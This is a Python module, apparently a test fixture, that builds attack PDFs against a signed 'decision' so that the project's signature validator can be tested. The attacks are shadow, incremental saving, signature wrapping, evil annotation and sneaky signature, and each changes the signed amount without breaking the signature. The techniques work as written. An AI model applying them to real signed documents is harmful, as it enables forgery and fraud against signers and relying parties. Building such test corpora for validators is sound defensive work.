"""Attack PDFs of the published classes (pdf-insecurity.org), built on documents we sign.

Every attack starts from a one-page decision ("Amount: 500,000 VND") signed with keys of the
caller's CA; the attacker then changes what the page shows. ``caught_by`` records which part
of our validator reports it today:

* ``pyhanko`` — pyHanko's own verdict (digest, modification analysis, DocMDP);
* ``visual`` — pyHanko accepts the update (form filling, an annotation under P=3, a later
  signature) and only the picture comparison (``signing.visual``) sees the change;
* ``trailing`` — bytes after the signed file's end that are not an incremental update.

The classes (Mainka, Mladenov, Rohlmann, Schwenk et al.): shadow attacks *hide*, *replace*
and *hide-and-replace*; incremental saving attacks (ISA); signature wrapping (SWA);
certification attacks: the evil annotation attack (EAA, P=3) and the sneaky signature attack
(SSA, P=2).
"""

from __future__ import annotations

import io
import re
from collections.abc import Callable
from dataclasses import dataclass

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.sign import fields, signers
from pyhanko.stamp import TextStampStyle

from signing import InternalCA, KeySource, PinProtectedKey, generate_private_key

AMOUNT = (72, 700)  # where the decision's amount is printed (points)
FIELD_BOX = (70, 692, 300, 716)  # a text field over it
MARGIN_BOX = (380, 40, 560, 100)  # a blank spot at the bottom right


@dataclass(frozen=True)
class Attack:
    """One attack file: its name, class, which check catches it, and the bytes."""

    name: str
    family: str
    caught_by: str
    data: bytes


@dataclass(frozen=True)
class Keys:
    """The victim's and the attacker's keys (both from the caller's CA)."""

    victim: KeySource
    attacker: KeySource


def decision(
    *, covered: bool = False, amount_field: bool = False, beneath: str = "", hidden: bool = False
) -> bytes:
    """Return the unsigned one-page decision.

    :param covered: The page prints "900,000" under an opaque white form XObject that prints
        "500,000" (the shadow *hide* set-up).
    :param amount_field: The amount is a text field holding "500,000 VND" (opaque background).
    :param beneath: Text the page prints under the amount field (hidden by it).
    :param hidden: An unused form XObject holds a whole other page (*hide-and-replace*).
    """
    out = io.BytesIO()
    with Pdf.new() as pdf:
        font = pdf.make_indirect(
            Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
        )
        page = pdf.add_blank_page(page_size=(595, 842))
        xobjects = Dictionary()
        page.Resources = Dictionary(Font=Dictionary(F1=font), XObject=xobjects)
        text = "BT /F1 20 Tf 72 780 Td (DECISION No. 12) Tj ET\n"
        if covered:
            text += _line("Amount: 900,000 VND") + "q /Cover Do Q\n"
            xobjects.Cover = _form(pdf, font, "Amount: 500,000 VND", opaque=True)
        elif not amount_field:
            text += _line("Amount: 500,000 VND")
        if beneath:
            text += _line(beneath)
        if hidden:
            xobjects.Shadow = _form(pdf, font, "Amount: 900,000 VND", opaque=False, whole=True)
        page.Contents = pdf.make_stream(text.encode("latin-1"))
        if amount_field:
            _amount_field(pdf, page, font)
        pdf.save(out, compress_streams=False)
    return out.getvalue()


def sign(
    data: bytes,
    key: KeySource,
    field: str,
    *,
    certify: fields.MDPPerm | None = None,
    box: tuple[int, int, int, int] | None = None,
    text: str | None = None,
) -> bytes:
    """Sign ``data`` in a new or existing field (certifying with ``certify``; visible at
    ``box`` with ``text``)."""
    writer = IncrementalPdfFileWriter(io.BytesIO(data), strict=False)
    metadata = signers.PdfSignatureMetadata(
        field_name=field,
        md_algorithm="sha256",
        subfilter=fields.SigSeedSubFilter.PADES,
        certify=certify is not None,
        docmdp_permissions=certify or fields.MDPPerm.FILL_FORMS,
    )
    pdf_signer = signers.PdfSigner(
        metadata,
        signer=key.signer(),
        stamp_style=TextStampStyle(stamp_text=text, border_width=0) if text else None,
        new_field_spec=fields.SigFieldSpec(field, box=box, on_page=0) if box else None,
    )
    return bytes(pdf_signer.sign_pdf(writer).getvalue())


@dataclass(frozen=True)
class Recipe:
    """How to build one attack, and what it is."""

    name: str
    family: str
    caught_by: str
    build: Callable[[Keys], bytes]

    @property
    def test_id(self) -> str:
        """Return "<name>-by-<check>", the id its tests run under."""
        return f"{self.name}-by-{self.caught_by}"

    def make(self, keys: Keys) -> Attack:
        """Build the attack with ``keys``."""
        return Attack(self.name, self.family, self.caught_by, self.build(keys))


def corpus(keys: Keys) -> list[Attack]:
    """Return every attack, each built from a freshly signed decision."""
    return [recipe.make(keys) for recipe in RECIPES]


# --- the attacks ------------------------------------------------------------------------------


def shadow_hide(keys: Keys) -> bytes:
    """Hide: the signer saw "500,000" on an opaque overlay; the update empties the overlay."""
    signed = sign(decision(covered=True), keys.victim, "victim")

    def change(writer: IncrementalPdfFileWriter) -> None:
        page = _page(writer)
        cover = page["/Resources"]["/XObject"].raw_get("/Cover")
        stream = cover.get_object()
        stream._data = b""  # noqa: SLF001 — pyHanko's writer has no setter for raw data
        stream._encoded_data = None  # noqa: SLF001
        writer.mark_update(cover)

    return _updated(signed, change)


def shadow_hide_form_field(keys: Keys) -> bytes:
    """Hide via a form field: an opaque field printing "500,000" covers "900,000" on the page;
    after signing its value is emptied (pyHanko: form filling, allowed)."""
    prepared = decision(amount_field=True, beneath="Amount: 900,000 VND")
    signed = sign(prepared, keys.victim, "victim")
    return _refill(signed, "")


def shadow_replace(keys: Keys) -> bytes:
    """Replace via an overlay form field under a certification (P=2): the amount field's value
    is changed after signing — form filling, which P=2 allows."""
    prepared = decision(amount_field=True)
    signed = sign(prepared, keys.victim, "victim", certify=fields.MDPPerm.FILL_FORMS)
    return _refill(signed, "Amount: 900,000 VND")


def shadow_replace_font(keys: Keys) -> bytes:
    """Replace via overwrite: the font the page uses is redefined after signing."""
    signed = sign(decision(), keys.victim, "victim")

    def change(writer: IncrementalPdfFileWriter) -> None:
        font = _page(writer)["/Resources"]["/Font"].raw_get("/F1")
        font.get_object()[pdf_name("/BaseFont")] = pdf_name("/Courier-Bold")
        writer.mark_update(font)

    return _updated(signed, change)


def shadow_hide_and_replace(keys: Keys) -> bytes:
    """Hide-and-replace: a whole other page hides in an unused object; the update points the
    page's contents at it."""
    signed = sign(decision(hidden=True), keys.victim, "victim")

    def change(writer: IncrementalPdfFileWriter) -> None:
        page_ref = _page_ref(writer)
        page = page_ref.get_object()
        page[pdf_name("/Contents")] = page["/Resources"]["/XObject"].raw_get("/Shadow")
        writer.mark_update(page_ref)

    return _updated(signed, change)


def incremental_update(keys: Keys) -> bytes:
    """ISA: an incremental update with new page contents and no new signature."""
    signed = sign(decision(), keys.victim, "victim")
    return _with_page_text(signed, _line("Amount: 900,000 VND", y=650), before=False)


def incremental_appended(keys: Keys) -> bytes:
    """ISA without an xref section: a redefined object appended after the signed file's end."""
    signed = sign(decision(), keys.victim, "victim")
    content = b"BT /F1 14 Tf 72 700 Td (Amount: 900,000 VND) Tj ET"
    objects = re.findall(rb"(\d+) 0 obj\s*<<\s*/Length", signed)
    number = int(objects[0]) if objects else 4
    appended = b"\n%d 0 obj\n<< /Length %d >>\nstream\n%s\nendstream\nendobj\n" % (
        number,
        len(content),
        content,
    )
    return signed + appended


def signature_wrapping(keys: Keys) -> bytes:
    """SWA: the attacker's bytes go into the signature's unused padding (inside the excluded
    gap) and the /ByteRange is rewritten so that the signed ranges take them in; the file's
    offsets stay valid, so every reader opens it."""
    signed = sign(decision(), keys.victim, "victim")
    match = re.search(rb"/ByteRange\s*\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)\s*\]", signed)
    assert match is not None  # noqa: S101
    _a, b, c, d = (int(v) for v in match.groups())
    evil = b"> /Evil (Amount: 900,000 VND) /Pad <"
    start = c - 1 - len(evil)  # the hex string's last zeros, before its closing ">"
    assert signed[start : c - 1] == b"0" * len(evil)  # noqa: S101 — padding, not the CMS
    ranges = f"/ByteRange [0 {b} {start} {d + len(evil) + 1}]".encode()
    data = signed[:start] + evil + signed[c - 1 :]
    data = data[: match.start()] + ranges.ljust(len(match.group(0))) + data[match.end() :]
    return data


def evil_annotation(keys: Keys) -> bytes:
    """EAA: certified with P=3 (annotations allowed); a free-text annotation then covers the
    amount with another one."""
    signed = sign(decision(), keys.victim, "victim", certify=fields.MDPPerm.ANNOTATE)

    def change(writer: IncrementalPdfFileWriter) -> None:
        page_ref = _page_ref(writer)
        page = page_ref.get_object()
        x0, y0, x1, y1 = FIELD_BOX
        appearance = _appearance(writer, "Amount: 900,000 VND", x1 - x0, y1 - y0)
        note = generic.DictionaryObject(
            {
                pdf_name("/Type"): pdf_name("/Annot"),
                pdf_name("/Subtype"): pdf_name("/FreeText"),
                pdf_name("/Rect"): generic.ArrayObject(generic.NumberObject(v) for v in FIELD_BOX),
                pdf_name("/DA"): generic.TextStringObject("/Helv 14 Tf 0 g"),
                pdf_name("/Contents"): generic.TextStringObject("Amount: 900,000 VND"),
                pdf_name("/F"): generic.NumberObject(4),
                pdf_name("/AP"): generic.DictionaryObject({pdf_name("/N"): appearance}),
            }
        )
        page[pdf_name("/Annots")] = generic.ArrayObject([writer.add_object(note)])
        writer.mark_update(page_ref)

    return _updated(signed, change)


def sneaky_signature(keys: Keys) -> bytes:
    """SSA: certified with P=2; the attacker adds a signature whose stamp prints over the amount."""
    signed = sign(decision(), keys.victim, "victim", certify=fields.MDPPerm.FILL_FORMS)
    box = (70, 690, 330, 720)
    data = sign(signed, keys.attacker, "sneaky", box=box, text="Amount: 900,000 VND")
    return data


def sneaky_approval(keys: Keys) -> bytes:
    """A later signature (the victim's is an approval) whose stamp prints over the amount."""
    signed = sign(decision(), keys.victim, "victim")
    box = (70, 690, 330, 720)
    data = sign(signed, keys.attacker, "sneaky", box=box, text="Amount: 900,000 VND")
    return data


RECIPES: list[Recipe] = [
    Recipe("shadow_hide", "shadow: hide", "pyhanko", shadow_hide),
    Recipe("shadow_hide_form_field", "shadow: hide", "visual", shadow_hide_form_field),
    Recipe("shadow_replace", "shadow: replace (form field)", "visual", shadow_replace),
    Recipe("shadow_replace_font", "shadow: replace (overwrite)", "pyhanko", shadow_replace_font),
    Recipe(
        "shadow_hide_and_replace", "shadow: hide-and-replace", "pyhanko", shadow_hide_and_replace
    ),
    Recipe("isa_new_contents", "incremental saving", "pyhanko", incremental_update),
    Recipe("isa_appended_no_xref", "incremental saving", "trailing", incremental_appended),
    Recipe("swa_byterange_into_padding", "signature wrapping", "pyhanko", signature_wrapping),
    Recipe("eaa_free_text_p3", "certification: evil annotation", "pyhanko", evil_annotation),
    Recipe(
        "ssa_stamp_over_content_p2", "certification: sneaky signature", "pyhanko", sneaky_signature
    ),
    Recipe(
        "ssa_stamp_over_content_approval",
        "certification: sneaky signature",
        "visual",
        sneaky_approval,
    ),
]


# --- helpers ----------------------------------------------------------------------------------


def _line(text: str, y: int = AMOUNT[1]) -> str:
    return f"BT /F1 14 Tf {AMOUNT[0]} {y} Td ({text}) Tj ET\n"


def _form(
    pdf: Pdf, font: pikepdf.Object, text: str, *, opaque: bool, whole: bool = False
) -> pikepdf.Object:
    """A form XObject printing ``text`` where the amount is (on white when ``opaque``)."""
    body = "1 1 1 rg 60 690 260 30 re f 0 g\n" if opaque else ""
    if whole:
        body += "BT /F1 20 Tf 72 780 Td (DECISION No. 12) Tj ET\n"
    body += _line(text)
    stream = pdf.make_stream(body.encode("latin-1"))
    stream.Type, stream.Subtype = Name.XObject, Name.Form
    stream.BBox = Array([0, 0, 595, 842])
    stream.Resources = Dictionary(Font=Dictionary(F1=font))
    return pdf.make_indirect(stream)


def _amount_field(pdf: Pdf, page: pikepdf.Page, font: pikepdf.Object) -> None:
    """A text field "amount" holding "500,000 VND", drawn on white over the amount's place."""
    x0, y0, x1, y1 = FIELD_BOX
    look = pdf.make_stream(_field_look("Amount: 500,000 VND", x1 - x0, y1 - y0))
    look.Type, look.Subtype = Name.XObject, Name.Form
    look.BBox = Array([0, 0, x1 - x0, y1 - y0])
    look.Resources = Dictionary(Font=Dictionary(Helv=font))
    field = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Widget,
            FT=Name.Tx,
            T=pikepdf.String("amount"),
            V=pikepdf.String("Amount: 500,000 VND"),
            DA=pikepdf.String("/Helv 14 Tf 0 g"),
            Rect=Array(list(FIELD_BOX)),
            F=4,
            P=page.obj,
            AP=Dictionary(N=look),
        )
    )
    page.Annots = pdf.make_indirect(Array([field]))
    pdf.Root.AcroForm = Dictionary(
        Fields=Array([field]),
        DR=Dictionary(Font=Dictionary(Helv=font)),
        DA=pikepdf.String("/Helv 14 Tf 0 g"),
    )


def _field_look(text: str, width: float, height: float) -> bytes:
    body = f"1 1 1 rg 0 0 {width} {height} re f 0 g "
    if text:
        body += f"BT /Helv 14 Tf 2 6 Td ({text}) Tj ET"
    return body.encode("latin-1")


def _appearance(
    writer: IncrementalPdfFileWriter, text: str, width: float, height: float
) -> generic.IndirectObject:
    font = generic.DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Font"),
            pdf_name("/Subtype"): pdf_name("/Type1"),
            pdf_name("/BaseFont"): pdf_name("/Helvetica"),
        }
    )
    stream = generic.StreamObject(
        {
            pdf_name("/Type"): pdf_name("/XObject"),
            pdf_name("/Subtype"): pdf_name("/Form"),
            pdf_name("/BBox"): generic.ArrayObject(
                [
                    generic.NumberObject(0),
                    generic.NumberObject(0),
                    generic.FloatObject(width),
                    generic.FloatObject(height),
                ]
            ),
            pdf_name("/Resources"): generic.DictionaryObject(
                {
                    pdf_name("/Font"): generic.DictionaryObject(
                        {pdf_name("/Helv"): writer.add_object(font)}
                    )
                }
            ),
        },
        stream_data=_field_look(text, width, height),
    )
    return writer.add_object(stream)


def _refill(signed: bytes, value: str) -> bytes:
    """Form filling after signing: the "amount" field gets ``value`` and a new appearance."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        form = writer.root["/AcroForm"]
        ref = form["/Fields"].raw_get(0)
        field = ref.get_object()
        x0, y0, x1, y1 = FIELD_BOX
        field[pdf_name("/V")] = generic.TextStringObject(value)
        field[pdf_name("/AP")] = generic.DictionaryObject(
            {pdf_name("/N"): _appearance(writer, value, x1 - x0, y1 - y0)}
        )
        writer.mark_update(ref)

    return _updated(signed, change)


def drawn_over(signed: bytes, text: str = "Amount: 900,000 VND", y: int = 650) -> bytes:
    """Return ``signed`` after an update that prints ``text`` on its first page (ISA)."""
    return _with_page_text(signed, _line(text, y=y), before=False)


def _with_page_text(signed: bytes, text: str, *, before: bool) -> bytes:
    """An incremental update that adds ``text`` to the page (a new contents stream)."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        page_ref = _page_ref(writer)
        page = page_ref.get_object()
        extra = writer.add_object(generic.StreamObject(stream_data=text.encode("latin-1")))
        old = page.raw_get("/Contents")
        page[pdf_name("/Contents")] = generic.ArrayObject([extra, old] if before else [old, extra])
        writer.mark_update(page_ref)

    return _updated(signed, change)


def _updated(data: bytes, change: Callable[[IncrementalPdfFileWriter], None]) -> bytes:
    writer = IncrementalPdfFileWriter(io.BytesIO(data), strict=False)
    change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _page_ref(writer: IncrementalPdfFileWriter) -> generic.IndirectObject:
    page_ref, _resources = writer.find_page_for_modification(0)
    return page_ref


def _page(writer: IncrementalPdfFileWriter) -> generic.DictionaryObject:
    return _page_ref(writer).get_object()


def keys_of(ca: InternalCA, pin: str = "246810") -> Keys:
    """Return a victim's and an attacker's unlocked keys with certificates from ``ca``."""

    def key(full_name: str) -> PinProtectedKey:
        private_key = generate_private_key("ec-p256")
        certificate = ca.issue_signer(
            public_key=private_key.public_key(),
            full_name=full_name,
            title="Chủ tịch",
            organisation=ca.config.organisation,
        )
        made = PinProtectedKey.seal(private_key, pin, certificate=certificate, chain=ca.chain)
        made.unlock(pin)
        return made

    return Keys(victim=key("Trần Văn Minh"), attacker=key("Lê Văn Giả"))
